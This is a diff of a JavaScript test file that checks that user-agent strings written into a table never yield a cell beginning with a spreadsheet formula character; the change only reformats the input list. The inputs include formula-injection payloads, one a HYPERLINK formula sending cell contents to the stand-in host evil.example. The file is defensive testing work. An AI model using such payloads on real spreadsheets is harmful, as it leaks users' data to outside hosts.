@@ -12,7 +12,14 @@ const line = (userAgent) =>
     }),
   );
 
-for (const agent of ["x;=1+1", 'x;=HYPERLINK("https://evil.example?"&A1;"x");y', "x;@SUM(A1)", "x\t+1", ";-1", "x;＝1"]) {
+for (const agent of [
+  "x;=1+1",
+  'x;=HYPERLINK("https://evil.example?"&A1;"x");y',
+  "x;@SUM(A1)",
+  "x\t+1",
+  ";-1",
+  "x;＝1",
+]) {
   test(`no cell is a formula where a table splits at semicolons and tabs: ${JSON.stringify(agent)}`, () => {
     for (const cell of line(agent).split(/[;\t]/)) assert.doesNotMatch(cell, /^"?[=+\-@＝＋－＠]/u);
   });
